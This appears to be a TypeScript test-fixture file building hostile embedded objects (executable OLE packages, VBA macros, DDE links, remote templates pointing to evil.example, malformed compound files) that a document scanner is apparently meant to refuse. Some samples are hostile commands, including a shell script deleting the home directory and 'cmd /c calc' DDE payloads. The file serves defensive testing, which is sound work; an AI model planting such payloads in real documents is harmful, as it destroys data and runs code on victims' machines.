import { buildCompound } from './compound-builder.ts'
import {
	classIds,
	compound,
	macroDocument,
	officeFile,
	packaged,
	presentationStream,
	program,
	withDocument,
	withEmbedded,
	workbookStream,
} from './embedded-objects.ts'
import type { HostileManuscript } from './hostile-manuscript.ts'
import { contentTypes, manuscript, relations, withRelation } from './plain-manuscript.ts'
import { buildZip } from './zip-builder.ts'

type Embedded = HostileManuscript & {
	/** What the sentence must name. */
	part: string
}
const object = (why: string, name: string, data: () => Buffer, part = 'word/embeddings/oleObject1.bin'): Embedded => ({
	name: `embedded: ${name}`,
	make: () => withEmbedded(data(), part),
	why,
	part,
})
const xls = 'word/embeddings/Worksheet1.xls'
const xlsx = 'word/embeddings/Worksheet1.xlsx'

const exePackage = () =>
	compound([{ name: '\u0001Ole10Native', data: packaged('setup.exe', program) }], classIds.package)
/** Its root does not say that it is one. */
const unnamedPackage = () => compound([{ name: '\u0001Ole10Native', data: packaged('a.exe', program) }])
const vba = [
	{ name: 'VBA', isStorage: true },
	{ name: '_VBA_PROJECT', data: Buffer.alloc(50) },
	{ name: 'dir', data: Buffer.alloc(50) },
]
const macroWorkbook = () =>
	compound([{ name: 'Workbook', data: workbookStream([0]) }, { name: '_VBA_PROJECT_CUR', isStorage: true }, ...vba])
const linkFlag = Buffer.from('01000002010000000000000000000000', 'hex')
const ddeBook = Buffer.concat([Buffer.from([0, 0, 9, 0, 0]), Buffer.from('cmd\u0003/c calc', 'latin1')])
const named = (name: string, data: string | Buffer = 'x'): Embedded => ({
	name: `a part called ${name}`,
	make: () => manuscript([{ name, data }]),
	why: 'a file that runs',
	part: name,
})
/** Changes one byte of the directory entry with this name. */
function withSlotByte(bytes: Buffer, name: string, at: number, value: number): Buffer {
	const changed = Buffer.from(bytes)
	changed[changed.indexOf(Buffer.from(`${name}\0`, 'utf16le')) + at] = value
	return changed
}
const slotByte = { nameLength: 64, type: 66, colour: 67 }

/** The directory entry is there, but no chain leads to it. */
function hiddenMacros(): Buffer {
	const inner = buildCompound(vba)
	return compound([{ name: 'CONTENTS', data: Buffer.concat([Buffer.alloc(512, 1), inner]) }])
}
function nestedDeep(levels: number): Buffer {
	let bytes = officeFile('spreadsheetml.sheet')
	for (let level = 0; level < levels; level++)
		bytes = officeFile('spreadsheetml.sheet', [{ name: 'xl/embeddings/a.xlsx', data: bytes }])
	return bytes
}
const relationIn = (type: string, target: string) => () =>
	officeFile('spreadsheetml.sheet', [
		{ name: 'xl/_rels/workbook.xml.rels', data: relations([{ type, target, external: true }]) },
	])

/** Embedded content that is not what its name says, and parts that would run. Each is refused by the name of its part. */
export const hostileEmbeddings: Embedded[] = [
	object('a packed program', 'an OLE package with a program', exePackage),
	object('a packed program', 'an OLE package in a colour that does not exist', () =>
		withSlotByte(unnamedPackage(), '\u0001Ole10Native', slotByte.colour, 2),
	),
	object('macros', 'macros in a colour that does not exist', () =>
		['VBA', '_VBA_PROJECT', '_VBA_PROJECT_CUR'].reduce(
			(bytes, name) => withSlotByte(bytes, name, slotByte.colour, 200),
			macroWorkbook(),
		),
	),
	object('readers differ', 'an OLE package of a type that does not exist', () =>
		withSlotByte(unnamedPackage(), '\u0001Ole10Native', slotByte.type, 3),
	),
	object('readers differ', 'an OLE package whose name has an odd length', () =>
		withSlotByte(unnamedPackage(), '\u0001Ole10Native', slotByte.nameLength, 29),
	),
	object('a packed file', 'an OLE package with a text', () =>
		compound([{ name: '\u0001Ole10Native', data: packaged('a.txt', Buffer.from('hello')) }]),
	),
	object('a packed program', 'a package that says it is Paint', () =>
		compound([{ name: '\u0001Ole10Native', data: packaged('setup.exe', program) }], classIds.paint),
	),
	object('a packed program', 'a package in other case', () =>
		compound([{ name: '\u0001OLE10NATIVE', data: packaged('setup.exe', program) }]),
	),
	object('a packed program', 'the class of the packager alone', () => compound([{ name: 'x' }], classIds.package)),
	object('a program', 'a raw program', () => program),
	object('a program', 'a raw program of Linux', () => Buffer.from('\x7fELF\x02\x01\x01'.padEnd(300, 'x'), 'latin1')),
	object('a program', 'a program in a stream', () => compound([{ name: 'CONTENTS', data: program }])),
	object('a program', 'a program behind 9 MB', () =>
		compound([
			{ name: 'Pictures', data: Buffer.alloc(9_000_000, 3) },
			{ name: 'CONTENTS', data: program },
		]),
	),
	object('a script', 'a shell script', () => Buffer.from('#!/bin/sh\nrm -r ~\n')),
	object('a script', 'a script of Windows', () => Buffer.from('CreateObject("WScript.Shell").Run "calc"\r\n')),
	object('a shortcut', 'a shortcut', () => Buffer.from('4c0000000114020000000000c000000000000046', 'hex')),
	object('a shortcut', 'an internet shortcut', () =>
		Buffer.from('[InternetShortcut]\r\nURL=file://evil.example/x.exe\r\n'),
	),
	object('a page', 'a web page', () => Buffer.from('<html><script>alert(1)</script>')),
	object('rich text', 'rich text', () => Buffer.from('{\\rtf1 {\\object}}')),
	object('macros', 'an .xls with VBA', macroWorkbook, xls),
	object('macros', 'an .xls with VBA, called .bin', macroWorkbook),
	object(
		'macros',
		'an .xls with a macro sheet',
		() => compound([{ name: 'Workbook', data: workbookStream([0, 1]) }]),
		xls,
	),
	object('macros', 'a .doc with macros', () =>
		compound([{ name: 'WordDocument', data: Buffer.alloc(5000) }, { name: 'Macros', isStorage: true }, ...vba]),
	),
	object('macros', 'a .ppt with VBA', () =>
		compound([{ name: 'PowerPoint Document', data: presentationStream(buildCompound(vba), true) }]),
	),
	object('a packed program', 'a .ppt with a package', () =>
		compound([{ name: 'PowerPoint Document', data: presentationStream(exePackage(), false) }]),
	),
	object('macros', 'macros in a container in a container', () =>
		compound([{ name: 'CONTENTS', data: macroWorkbook() }]),
	),
	object('macros', 'macros that no chain leads to', hiddenMacros),
	object(
		'DDE',
		'an .xls with a DDE link',
		() => compound([{ name: 'Workbook', data: workbookStream([0], [0x1ae, ddeBook]) }]),
		xls,
	),
	object(
		'hidden content',
		'an .xls with a password',
		() => compound([{ name: 'Workbook', data: workbookStream([0], [0x2f, Buffer.alloc(54)]) }]),
		xls,
	),
	object('hidden content', 'an Office file with a password', () =>
		compound([
			{ name: 'EncryptionInfo', data: Buffer.alloc(60) },
			{ name: 'EncryptedPackage', data: Buffer.alloc(5000) },
		]),
	),
	object('a link', 'an object that is a link', () => buildCompound([{ name: '\u0001Ole', data: linkFlag }])),
	...(['link', 'newPackage', 'scriptlet', 'webPage', 'browser'] as const).map((key) =>
		object('a class that loads or runs', `the class of: ${key}`, () => compound([{ name: 'x' }], classIds[key])),
	),
	object('macros', 'a .docm', macroDocument),
	object('macros', 'a .docm called .docx', macroDocument, 'word/embeddings/Document1.docx'),
	object('macros', 'a .docm in a container', () => compound([{ name: 'Package', data: macroDocument() }])),
	object(
		'macros',
		'a workbook with VBA, called .xlsx',
		() => officeFile('spreadsheetml.sheet', [{ name: 'xl/vbaProject.bin', data: 'x' }]),
		xlsx,
	),
	object(
		'macros',
		'a binary workbook with VBA',
		() => officeFile('binary', [{ name: 'xl/vbaProject.bin', data: 'x' }]),
		'word/embeddings/a.xlsb',
	),
	object(
		'macros',
		'a workbook with a macro sheet',
		() =>
			officeFile('spreadsheetml.sheet', [
				{
					name: 'xl/_rels/workbook.xml.rels',
					data: relations([
						{
							type: 'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet',
							target: 'macrosheets/sheet1.xml',
						},
					]),
				},
			]),
		xlsx,
	),
	object(
		'a packed program',
		'a workbook with a package',
		() => officeFile('spreadsheetml.sheet', [{ name: 'xl/embeddings/oleObject1.bin', data: exePackage() }]),
		xlsx,
	),
	object('a remote template', 'a document with a remote template', () =>
		withRelation(
			{ type: 'attachedTemplate', target: 'https://evil.example/t.dotm', external: true },
			'word/_rels/settings.xml.rels',
		),
	),
	object(
		'a remote workbook',
		'a workbook that loads another',
		relationIn('externalLinkPath', 'file://evil.example/s/a.xlsx'),
		xlsx,
	),
	object(
		'DDE',
		'a workbook with a DDE link',
		() =>
			officeFile('spreadsheetml.sheet', [
				{
					name: 'xl/externalLinks/externalLink1.xml',
					data: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
				},
			]),
		xlsx,
	),
	object('DDE', 'a document with a DDE field', () => withDocument('<w:fldSimple w:instr="DDEAUTO cmd"/>')),
	object('another kind', 'any zip', () => buildZip([{ name: 'a.txt', data: 'a' }])),
	object('nesting', 'workbooks in workbooks', () => nestedDeep(8), xlsx),
	object('damage', 'a container that is cut off', () =>
		compound([{ name: 'CONTENTS', data: Buffer.alloc(9000) }]).subarray(0, 600),
	),
	object('damage', 'a container with a chain in a circle', () => {
		const bytes = compound([{ name: 'CONTENTS', data: Buffer.alloc(9000) }])
		// every entry of the table of chains leads to the first sector
		const table = bytes.readUInt32LE(76)
		bytes.fill(0, 512 * (table + 1), 512 * (table + 2))
		return bytes
	}),
	{
		name: 'embedded: a program that only a relation calls embedded',
		make: () =>
			manuscript([
				{ name: 'word/media/object.bin', data: Buffer.from('CreateObject("WScript.Shell")') },
				{ name: 'word/_rels/document.xml.rels', data: relations([{ type: 'package', target: 'media/object.bin' }]) },
			]),
		why: 'a script',
		part: 'word/media/object.bin',
	},
	{
		name: 'embedded: a program said to be XML',
		make: () =>
			manuscript(
				[{ name: 'word/embeddings/object.dat', data: '<job><script language="VBScript"/></job>' }],
				{},
				{ types: contentTypes(undefined, '<Default Extension="dat" ContentType="application/xml"/>') },
			),
		why: 'a script',
		part: 'word/embeddings/object.dat',
	},
	...['pif', 'chm', 'iso', 'one', 'url', 'com', 'wsh', 'cpl', 'scf', 'xlam', 'unheard'].map((extension) =>
		named(`word/media/report.${extension}`),
	),
	named('word/media/image1.png', program),
	named('word/media/image1.bin', exePackage()),
	named('customXml/notes', program),
]
